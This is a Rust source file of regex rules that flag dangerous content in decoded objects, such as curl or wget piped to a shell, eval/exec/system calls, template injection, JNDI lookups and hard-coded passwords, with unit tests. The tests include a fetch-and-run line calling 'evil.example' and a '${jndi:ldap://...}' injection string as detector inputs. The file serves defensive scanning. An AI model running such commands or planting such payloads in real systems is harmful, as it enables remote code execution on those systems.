//! Dangerous-content rules scanned over decoded object text.

use regex::Regex;
use std::sync::LazyLock;

/// A named regular expression that rejects an object when it matches.
#[derive(Debug, Clone)]
pub struct DangerousPattern {
    name: String,
    regex: Regex,
}

impl DangerousPattern {
    /// Compiles a rule. Fails on an invalid regular expression.
    pub fn new(name: impl Into<String>, pattern: &str) -> Result<Self, regex::Error> {
        Ok(Self {
            name: name.into(),
            regex: Regex::new(pattern)?,
        })
    }

    pub fn name(&self) -> &str {
        &self.name
    }

    pub fn is_match(&self, text: &str) -> bool {
        self.regex.is_match(text)
    }
}

/// Built-in rules as `(name, pattern)` pairs.
pub const DEFAULT_RULES: &[(&str, &str)] = &[
    (
        "shell-pipe-download",
        r"(?i)\b(curl|wget)\b[^\n|]*\|\s*(ba|z)?sh\b",
    ),
    ("command-substitution-download", r"\$\(\s*(curl|wget)\b"),
    (
        "base64-pipe-shell",
        r"(?i)\bbase64\s+(-d|--decode)\b[^\n|]*\|\s*(ba|z)?sh\b",
    ),
    ("eval-call", r"(?i)\beval\s*\("),
    ("exec-call", r"(?i)\bexec\s*\("),
    ("system-call", r"(?i)\bsystem\s*\("),
    ("python-subprocess", r"(?i)\bsubprocess\b"),
    ("python-dynamic-import", r"(?i)__import__|\bimport\s+os\b"),
    (
        "template-injection",
        r"\{\{[^}]*(__class__|__globals__|__builtins__|\bexec\b|\bsystem\b)[^}]*\}\}",
    ),
    ("jndi-lookup", r"(?i)\$\{jndi:"),
    (
        "embedded-credential",
        r#"(?i)\b(password|passwd|api[_-]?key|access[_-]?token|secret[_-]?key)\s*[:=]\s*['"][^'"\s]{4,}['"]"#,
    ),
];

static DEFAULT_PATTERNS: LazyLock<Vec<DangerousPattern>> = LazyLock::new(|| {
    DEFAULT_RULES
        .iter()
        .map(|(name, pattern)| DangerousPattern::new(*name, pattern).unwrap())
        .collect()
});

/// Returns the compiled built-in rules.
pub fn default_patterns() -> Vec<DangerousPattern> {
    DEFAULT_PATTERNS.clone()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn first_match(text: &str) -> Option<String> {
        default_patterns()
            .into_iter()
            .find(|p| p.is_match(text))
            .map(|p| p.name().to_string())
    }

    #[test]
    fn test_defaults_compile() {
        assert_eq!(default_patterns().len(), DEFAULT_RULES.len());
    }

    #[test]
    fn test_curl_pipe_shell_detected() {
        assert_eq!(
            first_match("command: curl -s http://evil.example/x | sh").as_deref(),
            Some("shell-pipe-download")
        );
    }

    #[test]
    fn test_jndi_detected() {
        assert_eq!(
            first_match("value: ${jndi:ldap://x/a}").as_deref(),
            Some("jndi-lookup")
        );
    }

    #[test]
    fn test_quoted_password_detected() {
        assert_eq!(
            first_match("password: \"hunter22\"").as_deref(),
            Some("embedded-credential")
        );
    }

    #[test]
    fn test_ordinary_manifest_passes() {
        let manifest = r#"
apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  replicas: 1
  selector:
    matchLabels:
      app: web
  template:
    spec:
      containers:
        - name: web
          image: nginx:1.25
          command: ["sh", "-c", "exec nginx -g 'daemon off;'"]
          env:
            - name: PASSWORD
              valueFrom:
                secretKeyRef:
                  name: db
                  key: password
"#;
        assert_eq!(first_match(manifest), None);
    }

    #[test]
    fn test_invalid_custom_rule_rejected() {
        assert!(DangerousPattern::new("broken", "(unclosed").is_err());
    }
}
